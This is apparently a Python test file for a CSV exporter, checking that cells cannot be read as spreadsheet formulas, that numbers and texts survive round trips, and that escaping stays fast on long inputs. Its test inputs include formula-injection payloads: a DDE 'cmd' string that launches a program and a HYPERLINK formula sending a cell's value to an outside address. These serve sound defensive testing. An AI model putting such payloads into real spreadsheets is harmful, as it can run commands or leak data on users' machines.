"""No cell is a formula, numbers stay numbers, and every text comes back as it was."""

from __future__ import annotations

import csv
import io
from itertools import product

import pytest

from generator.render.csv import csv_cell, csv_text
from tests.growth import is_steep

_STARTS = ("", " ", "\t", "\u00a0", "\u200b", "\ufeff", "\r", "\n", "\u3000", "\x00")
_SIGNS = ("=", "+", "-", "@", "\t", "\r", "＝", "－", "＋", "＠")
_RESTS = ("cmd|' /C calc'!A0", "SUM(A1:A9)", 'HYPERLINK("https://e.invalid/"&A1)', "1+1", "", 'a;b,c\t"d"\r\ne')

_UNSEEN = "".join(_STARTS) + '"'


def read(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("delimiter", [";", ","])
def test_no_cell_is_a_formula_in_any_country(delimiter: str) -> None:
    for start, sign, rest in product(_STARTS, _SIGNS, _RESTS):
        text = start + sign + rest
        line = csv_text([["a", text, f"b{delimiter}{text}", f'c",{text}', f"d;{text}"]], delimiter)
        for own in (";", ",", "\t"):  # whatever the spreadsheet cuts at
            cells = [cell for row in read(line, own) for cell in row]
            assert not [cell for cell in cells if is_computed(cell)], repr(text)


def is_computed(cell: str) -> bool:
    return cell.strip(_UNSEEN)[:1] in set("=+-@＝＋－＠")


@pytest.mark.parametrize("text", ["0", "-2,1", "-2.1", "1000.5", "999999999999", "12,5"])
@pytest.mark.parametrize("delimiter", [";", ","])
def test_numbers_stay_numbers(text: str, delimiter: str) -> None:
    assert csv_cell(text, delimiter).strip('"') == text
    assert read(csv_text([[text, text]], delimiter), delimiter) == [[text, text]]


@pytest.mark.parametrize(
    "text", ["plain", "A; B, C", 'say "x"', "два\nряда", "2020–2024", "−5", "№ 5", "(5)", "[…]", "5-7"]
)
def test_texts_come_back_as_they_were(text: str) -> None:
    for delimiter in (";", ","):
        assert read(csv_text([["a", text]], delimiter), delimiter) == [["a", text]]
        assert csv_cell("plain", delimiter) == "plain"


def test_every_row_has_as_many_cells_as_the_head() -> None:
    assert read(csv_text([["a", "b", "c"], ["group"], ["x", "1", "2"]], ";"), ";")[1] == ["group", "", ""]


@pytest.mark.parametrize("text", ["--5", "-5-", "+5", "-1e5", "-٣", "=5", "-5,", "- 5", "@x", "\tx", "\rx"])
def test_what_only_looks_like_a_number_is_a_text(text: str) -> None:
    assert csv_cell(text, ";").lstrip('"').startswith("'")


@pytest.mark.parametrize("sign", [" ", "\t", ";", '"', "; ", "=;"])
def test_long_texts_take_no_longer_than_they_are_long(sign: str) -> None:
    assert not is_steep(lambda text: csv_cell(text, ";"), sign, 50_000)
